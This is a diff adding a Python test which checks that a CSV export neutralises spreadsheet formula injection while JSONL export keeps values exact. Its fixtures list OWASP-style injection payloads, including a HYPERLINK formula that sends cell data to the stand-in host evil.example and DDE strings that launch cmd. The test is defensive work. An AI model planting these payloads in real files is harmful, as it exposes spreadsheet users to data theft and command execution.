@@ -104,6 +104,54 @@ async def test_csv_round_trip(db: Database) -> None:
         await _export(db, format="xml")
 
 
+# Cells a spreadsheet would run as a formula (OWASP's CSV injection list, full-width forms too).
+FORMULAS = [
+    '=HYPERLINK("http://evil.example/?"&A1,"click")',
+    "+1+cmd|' /C calc'!A0",
+    "-2+3",
+    "@SUM(1+1)*cmd|' /C calc'!A0",
+    "\t=1+1",
+    "\r=1+1",
+    "＝1+1",
+]
+HARMLESS = ["a=b", "'already quoted", " =leading space is not a formula", "1-2", "中文=1"]
+
+
+async def _seed_formulas(db: Database) -> dict[str, str]:
+    async with db.sessions() as session:
+        chat = await make_chat(session, title="=cmd|' /C calc'!A0")
+        users = {}
+        for value in [*FORMULAS, *HARMLESS]:
+            user = await make_user(session, display_name=value)
+            sample = await make_sample(session, user=user, chat=chat, seed=value, text=value)
+            await repo.rate(session, sample_id=sample.id, user_id=user.id, score=-1)  # net -1: a number
+            users[str(sample.id)] = value
+        await session.commit()
+        return users
+
+
+async def test_csv_neutralises_formulas_and_jsonl_stays_exact(db: Database) -> None:
+    """Before: a seed like =HYPERLINK(...) went into the CSV raw, and a spreadsheet ran it."""
+    originals = await _seed_formulas(db)
+    rows = list(csv.DictReader(io.StringIO(await _export(db, format="csv", include_users=True), newline="")))
+    assert len(rows) == len(originals)
+    for row in rows:
+        value = originals[row["id"]]
+        expected = "'" + value if value in FORMULAS else value
+        assert (row["seed"], row["text"], row["user_display_name"]) == (expected, expected, expected)
+        assert row["chat_title"] == "'=cmd|' /C calc'!A0"
+        assert row["net_votes"] == "-1" and row["down_votes"] == "1"  # numbers stay numbers
+    jsonl = [
+        json.loads(line) for line in (await _export(db, format="jsonl", include_users=True)).splitlines()
+    ]
+    assert [(r["seed"], r["text"], r["user_display_name"]) for r in jsonl] == [
+        (originals[str(r["id"])],) * 3 for r in jsonl
+    ]
+    assert {r["chat_title"] for r in jsonl} == {"=cmd|' /C calc'!A0"} and {r["net_votes"] for r in jsonl} == {
+        -1
+    }
+
+
 def test_parse_since() -> None:
     assert parse_since("2024-03-01") == datetime(2024, 3, 1, tzinfo=UTC)
     assert parse_since("2024-03-01T12:30") == datetime(2024, 3, 1, 12, 30, tzinfo=UTC)
